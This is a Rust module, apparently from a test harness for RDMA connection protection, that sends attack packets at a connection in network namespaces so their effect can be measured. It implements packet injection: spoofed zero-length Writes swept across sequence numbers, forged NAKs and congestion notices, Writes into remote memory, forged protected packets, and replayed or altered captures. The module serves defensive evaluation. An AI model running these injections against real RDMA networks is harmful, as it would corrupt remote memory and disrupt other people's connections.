//! The attacks: which packets the attacker sends.

use crate::raw::{Sender, Tap};
use crate::victim::Known;
use rand_core::{Rng, SeedableRng};
use rand_pcg::Pcg64Mcg;
use rnic_netns::Pair;
use rnic_wire::{Aeth, Bth, Headers, NakCode, Opcode, Packet, ProtectedHeader, Reth, SackEth, Syndrome};
use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::sync::atomic::{AtomicBool, Ordering};

/// An attack, named after the attacker's knowledge or method.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Attack {
    /// The attacker sends nothing, for comparison.
    None,
    /// The attacker knows the addresses. It sends zero-length Writes, which need no key, to random QPNs with random
    /// PSNs.
    Blind,
    /// The attacker knows the QPN. It is another user of the sending host, so its packets have another source port.
    OtherUser,
    /// The attacker knows the QPN and the source port. It sends zero-length Writes with PSNs from the whole range.
    Sweep,
    /// As `Sweep`, but the attacker sends NAKs that refuse a request.
    Refuse,
    /// As `Sweep`, but the attacker sends CNPs.
    Slow,
    /// The attacker knows everything but the keys of protected packets. It sends Writes to the receiver's memory.
    Write,
    /// As `Write`, but the packets have the format of protected packets.
    Forge,
    /// The attacker captures packets and sends each of them again, immediately and later.
    Replay,
    /// The attacker captures packets and sends each of them again with one byte changed.
    Alter,
}

impl Attack {
    /// All attacks.
    pub const ALL: [Attack; 10] = [
        Attack::None,
        Attack::Blind,
        Attack::OtherUser,
        Attack::Sweep,
        Attack::Refuse,
        Attack::Slow,
        Attack::Write,
        Attack::Forge,
        Attack::Replay,
        Attack::Alter,
    ];

    /// The attack in the table of results.
    pub const fn name(self) -> &'static str {
        match self {
            Attack::None => "none",
            Attack::Blind => "zero-length Writes to random QPNs and PSNs",
            Attack::OtherUser => "zero-length Writes from another process of the host",
            Attack::Sweep => "zero-length Writes, QPN and port known",
            Attack::Refuse => "NAKs, QPN and port known",
            Attack::Slow => "CNPs, QPN and port known",
            Attack::Write => "Writes, everything known but keys",
            Attack::Forge => "forged protected packets",
            Attack::Replay => "repeated packets",
            Attack::Alter => "altered packets",
        }
    }

    /// Whether even a connection without protection withstands the attack, within the time of a test.
    pub const fn is_harmless(self) -> bool {
        matches!(self, Attack::None | Attack::Blind | Attack::OtherUser | Attack::Slow | Attack::Forge | Attack::Replay)
    }

    /// Attacks until `stop` is set; returns the number of packets that were sent.
    ///
    /// # Panics
    /// If the sockets cannot be opened.
    pub fn run(self, pair: &Pair, known: &Known, seed: u64, stop: &AtomicBool) -> u64 {
        let (IpAddr::V4(source), SocketAddr::V4(to)) = (Pair::A4, known.receiver) else { return 0 };
        let sender = Sender::open(&pair.a, source, to);
        let mut rng = Pcg64Mcg::seed_from_u64(seed);
        let mut sent = 0;
        match self {
            Attack::None => {}
            Attack::Replay | Attack::Alter => {
                let mut tap = Tap::open(&pair.a);
                let mut seen: Vec<(u16, Vec<u8>)> = Vec::new();
                while !stop.load(Ordering::Relaxed) {
                    let Some((port, payload)) = tap.next(known.receiver) else { continue };
                    // Longer payloads are batches that the kernel has not segmented yet, or the attacker's own packets.
                    if payload.len() > 1_200 || seen.len() > 4_096 {
                        seen.clear();
                        continue;
                    }
                    seen.push((port, payload));
                    let (port, mut payload) = seen[rng.next_u32() as usize % seen.len()].clone();
                    if self == Attack::Alter {
                        let at = rng.next_u32() as usize % payload.len();
                        payload[at] ^= 1 << (rng.next_u32() % 8);
                        if !ProtectedHeader::begins(&payload) {
                            sender.write_icrc(port, &mut payload);
                        }
                    }
                    sender.send(port, &payload);
                    sent += 1;
                }
            }
            _ => {
                let user = pair.a.run(|| UdpSocket::bind((source, 0))).expect("a free port");
                while !stop.load(Ordering::Relaxed) {
                    for _ in 0..64 {
                        let mut packet = self.packet(known, &mut rng, sent);
                        let port = match self {
                            Attack::OtherUser => user.local_addr().map_or(0, |address| address.port()),
                            _ => known.source_port,
                        };
                        if !ProtectedHeader::begins(&packet) {
                            sender.write_icrc(port, &mut packet);
                        }
                        if self == Attack::OtherUser {
                            let _ = user.send_to(&packet, known.receiver);
                        } else {
                            sender.send(port, &packet);
                        }
                        sent += 1;
                    }
                }
            }
        }
        sent
    }

    /// The packet with the number `number`, with room for an ICRC.
    fn packet(self, known: &Known, rng: &mut impl Rng, number: u64) -> Vec<u8> {
        // Consecutive packets have PSNs 512 apart. The receiver's window has 1,024 packets, so some of them hit it.
        let psn = known.psn.wrapping_add(number as u32 * 512) & 0xff_ffff;
        let (va, rkey, len) = known.memory;
        let empty = |qpn, psn| {
            let mut headers = Headers::new(Bth::new(Opcode::IRN_WRITE_ONLY, qpn, psn));
            headers.reth = Some(Reth { va: 0, rkey: 0, dma_len: 0 });
            bytes(headers, &[])
        };
        match self {
            Attack::Blind => empty(rng.next_u32() >> 8, rng.next_u32() >> 8),
            Attack::OtherUser | Attack::Sweep => empty(known.qpn, psn),
            Attack::Refuse => {
                let mut headers = Headers::new(Bth::new(Opcode::IRN_ACKNOWLEDGE, known.qpn, psn));
                headers.aeth = Some(Aeth { syndrome: Syndrome::Nak(NakCode::RemoteAccessError), msn: 0 });
                headers.sack = Some(SackEth::default());
                bytes(headers, &[])
            }
            Attack::Slow => {
                let packet = Packet::cnp(known.qpn);
                bytes(packet.headers, packet.payload)
            }
            Attack::Write | Attack::Forge => {
                let mut headers = Headers::new(Bth::new(Opcode::IRN_WRITE_ONLY, known.qpn, psn));
                let at = rng.next_u32() % (len - 64);
                headers.reth = Some(Reth { va: va + u64::from(at), rkey, dma_len: 64 });
                let plain = bytes(headers, &[0xee; 64]);
                if self == Attack::Write { plain } else { protected(known, rng, number, &plain) }
            }
            Attack::None | Attack::Replay | Attack::Alter => Vec::new(),
        }
    }
}

/// A packet with the format of a protected packet but a wrong tag.
fn protected(known: &Known, rng: &mut impl Rng, number: u64, plain: &[u8]) -> Vec<u8> {
    // Use packet numbers near the numbers of the connection, and random ones.
    let packet_number = if number.is_multiple_of(2) { number % 10_000 } else { rng.next_u64() };
    let header = ProtectedHeader { encrypted: number.is_multiple_of(3), dest_qp: known.qpn, packet_number };
    let mut bytes = header.emit().to_vec();
    let plain = &plain[..plain.len() - rnic_wire::ICRC_LEN];
    bytes.extend(ProtectedHeader::length(plain.len()));
    bytes.extend(plain);
    bytes.extend((0..ProtectedHeader::TAG_LEN).map(|_| rng.next_u32() as u8));
    bytes
}

fn bytes(headers: Headers, payload: &[u8]) -> Vec<u8> {
    let packet = Packet::new(headers, payload);
    let mut bytes = vec![0; packet.len()];
    packet.emit_without_icrc(&mut bytes);
    bytes
}
